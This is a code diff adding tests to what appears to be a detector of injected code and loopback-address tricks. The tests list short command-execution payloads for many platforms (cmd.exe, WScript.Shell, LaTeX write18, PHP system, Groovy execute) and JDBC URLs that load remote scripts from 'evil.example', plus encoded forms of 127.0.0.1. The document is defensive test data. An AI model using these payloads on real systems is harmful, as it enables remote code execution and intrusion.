@@ -2,6 +2,8 @@
 import { expect, test } from "bun:test";
 import { foundBy } from "../testing/inspect.ts";
 import { codePatterns } from "./all-patterns.ts";
+import { platformPatterns } from "./code-patterns.ts";
+import { hostNumber, mappedNumber } from "./code-requests.ts";
 
 const missed = (texts: readonly string[]): string[] =>
   texts.filter((text) => foundBy(codePatterns, text).length === 0);
@@ -218,3 +220,82 @@ const programs = [
   "localhost/",
   "127.0.0.1/admin",
 ];
+
+const isPlatformCode = (text: string): boolean => foundBy(platformPatterns, text).length > 0;
+
+const platformCode = [
+  'System.Diagnostics.Process.Start("cmd.exe")',
+  'CreateObject("WScript.Shell").Run("calc.exe")',
+  'Execute(Request("x"))',
+  '@Html.Raw("x")',
+  "@using System.IO",
+  "\\immediate\\write18{id}",
+  "\\input{/etc/hosts}",
+  '"id".execute().text',
+  "['sh','-c','id'].execute()",
+  'Eval.me("1+1")',
+  "@Grab('evil:evil:1')",
+  '"id".!',
+  ":os.cmd('id')",
+  'System.cmd("id",[])',
+  "os.execute('id')",
+  'Deno.run({cmd:["id"]})',
+  'Bun.spawn(["id"])',
+  'Code.eval_string("x")',
+  "jdbc:h2:mem:test;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
+  "jdbc:mysql://evil.example/x?autoDeserialize=true",
+  'system "id";',
+  "use IO::Socket;",
+  "require 'open3'",
+  'Object.send(:system,"ls")',
+  "open('|id')",
+  "array_filter(['id'],'system')",
+  "(phpinfo)()",
+  "'.system(\"id\").'",
+  "time.sleep(5)",
+  "globals()['os']",
+  "from os import popen",
+  'commands.getoutput("id")',
+];
+
+const platformWords = [
+  "The system 'Alpha' is down; please help",
+  "I set the @media rule and it works",
+  "We use it; they require it",
+  "jdbc:postgresql://db.example.com:5432/app",
+  "open the door (please)",
+  "import os is what I wrote first",
+  "Who can execute (and sign) it?",
+  "Write to @using it",
+];
+
+test("code for other platforms is found", () => {
+  expect(platformCode.filter((text) => !isPlatformCode(text))).toEqual([]);
+});
+
+test("addresses of databases and sentences with the same words are no code", () => {
+  expect(platformWords.filter(isPlatformCode)).toEqual([]);
+});
+
+test("every writing of an address stands for the same number", () => {
+  for (const host of [
+    "127.0.0.1",
+    "127.1",
+    "0x7f000001",
+    "2130706433",
+    "017700000001",
+    "0177.0.0.1",
+    "127.0.1",
+    "127.0.0.1.",
+  ]) {
+    expect([host, hostNumber(host)]).toEqual([host, 0x7f000001]);
+  }
+  for (const host of ["::1", "::ffff:127.0.0.1", "::ffff:7f00:1", "0:0:0:0:0:ffff:127.0.0.1"]) {
+    expect([host, mappedNumber(host)]).toEqual([host, 0x7f000001]);
+  }
+});
+
+test("names are no numbers", () => {
+  expect(["example.com", "1.2.3.4.5", "a.1", "0xzz"].map(hostNumber)).toEqual([null, null, null, null]);
+  expect(mappedNumber("2001:db8::1")).toBeNull();
+});
